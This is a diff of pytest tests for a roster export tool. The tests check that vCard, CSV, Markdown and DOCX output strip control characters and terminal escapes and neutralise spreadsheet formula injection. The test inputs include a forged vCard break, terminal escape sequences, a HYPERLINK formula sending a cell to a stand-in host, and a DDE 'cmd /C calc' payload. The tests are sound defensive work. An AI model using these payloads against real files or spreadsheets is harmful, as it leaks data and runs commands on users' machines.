@@ -201,6 +201,105 @@ def test_an_empty_committee_gives_an_empty_sheet(tmp_path: Path) -> None:
     assert any(p.text == "The plan lists no committee members yet." for p in document.paragraphs)
 
 
+# text from the plan that must not reach a file as it is ----------------------------------------
+
+#: Written with YAML's double-quoted escapes, as a plan can: a bare CR, a terminal colour and
+#: title sequence, a bell, a NUL, a C1 control, a direction override.
+HOSTILE = {
+    "Sam Lee": r"Sam\rBEGIN:VCARD Lee\e[31m\a",
+    "Victim Services Director": r"Director \e]0;pwned\aof\0 victims\x85\u202e",
+    "Harbor County District Attorney | Victim Assistance": r"Harbor\r\nDA\e[2J\x9b1m",
+}
+
+
+def _hostile_plan(tmp_path: Path) -> Path:
+    plan = tmp_path / "plan"
+    shutil.copytree(PLAN, plan)
+    text = (plan / "committee.yaml").read_text(encoding="utf-8")
+    for plain, hostile in HOSTILE.items():
+        text = text.replace(f": {plain}\n", f': "{hostile}"\n')
+    (plan / "committee.yaml").write_text(text, encoding="utf-8")
+    return plan
+
+
+def _controls(text: str) -> list[str]:
+    """Control characters other than the line ends a format is made of."""
+    import unicodedata
+
+    return sorted({repr(c) for c in text.replace("\r\n", "")
+                   if unicodedata.category(c) == "Cc" or c in "\u202e"})
+
+
+def test_control_characters_and_escapes_never_reach_the_vcard(tmp_path: Path) -> None:
+    text = to_vcf(_roster(plan=_hostile_plan(tmp_path)))
+    assert _controls(text) == []
+    assert "\r" not in text.replace("\r\n", "") and "[31m" not in text and "pwned" not in text
+    cards = list(vobject.readComponents(text))
+    assert len(cards) == 5  # a CR cannot start a card of its own
+    assert cards[0].fn.value == "Sam BEGIN:VCARD Lee"
+    assert cards[0].title.value == "Director of victims"
+    assert cards[0].org.value == ["Harbor DA"]
+
+
+def test_control_characters_and_escapes_never_reach_the_csv(tmp_path: Path) -> None:
+    text = to_csv(_roster(plan=_hostile_plan(tmp_path)))
+    assert _controls(text) == []
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 4
+    assert rows[0]["organization"] == "Harbor DA"
+    assert rows[0]["representative_name"] == "Sam BEGIN:VCARD Lee"
+
+
+def test_control_characters_and_escapes_never_reach_the_call_sheet(tmp_path: Path) -> None:
+    roster = _roster(plan=_hostile_plan(tmp_path))
+    data = to_docx(roster)
+    with zipfile.ZipFile(io.BytesIO(data)) as docx:
+        xml = docx.read("word/document.xml").decode("utf-8")
+    assert _controls(xml.replace("\n", "")) == [] and "pwned" not in xml
+    cells = Document(io.BytesIO(data)).tables[0].rows[1].cells
+    assert cells[2].text == "Sam BEGIN:VCARD Lee\nDirector of victims"
+    markdown = to_markdown(roster)
+    assert _controls(markdown.replace("\n", "")) == []
+    assert "| Harbor DA | Chair |" in markdown
+
+
+@pytest.mark.parametrize("fmt", ["csv", "vcf", "md", "docx"])
+def test_cli_exports_a_plan_with_control_characters_in_every_format(tmp_path: Path, fmt: str
+                                                                    ) -> None:
+    out = tmp_path / f"roster.{fmt}"
+    result = CliRunner().invoke(app, ["export", "roster", str(_hostile_plan(tmp_path)), "-f", fmt,
+                                      "-o", str(out), "--today", "2026-11-28"])
+    assert result.exit_code == 0, result.output
+    assert "4 members" in result.output
+    data = out.read_bytes()
+    if fmt == "docx":
+        with zipfile.ZipFile(out) as docx:
+            data = docx.read("word/document.xml")
+    assert b"\x1b" not in data and b"\x07" not in data and b"\x00" not in data
+
+
+@pytest.mark.parametrize("written", [
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+1", "+SUM(1,2)", "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\\t=1+1", "\\r=1+1", " =1+1",
+])
+def test_csv_neutralises_every_cell_a_spreadsheet_would_run(tmp_path: Path, written: str
+                                                           ) -> None:
+    plan = tmp_path / "plan"
+    shutil.copytree(PLAN, plan)
+    text = (plan / "committee.yaml").read_text(encoding="utf-8")
+    quoted = written.replace('"', '\\"')
+    (plan / "committee.yaml").write_text(text.replace(": Pat Kim,", f': "{quoted}",')
+                                         .replace('"Coast Legal Aid; Family Law, Unit"',
+                                                  f'"{quoted}"'), encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(to_csv(_roster(plan=plan)))))
+    cells = [rows[1]["representative_name"], rows[2]["organization"]]
+    for cell in cells:
+        assert cell[0] not in "=+-@\t\r", cell
+        assert cell.lstrip("'").lstrip() == cell.lstrip("'")  # nothing before the quote
+    assert cells[0].startswith("'")
+    assert rows[1]["representative_phone"] == "+1 541-555-0102"  # a phone we wrote stays
+
+
 # command line ---------------------------------------------------------------------------------
 
 @pytest.mark.parametrize("fmt", ["csv", "vcf", "md", "docx"])
